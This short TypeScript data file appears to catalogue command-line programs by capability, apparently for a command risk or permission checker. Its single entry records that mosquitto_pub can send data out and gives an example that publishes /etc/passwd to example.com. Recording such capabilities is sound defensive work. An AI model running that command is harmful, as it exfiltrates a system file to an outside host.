import type { Program } from '../program.ts';

export default (): readonly Program[] => [
  {
    prefix: 'mosquitto_pub',
    powers: [{ can: 'network-out', words: '-h example.com -t x -f /etc/passwd', seen: true }],
    source: ['docs:mosquitto_pub'],
    confidence: 'high',
  },
];
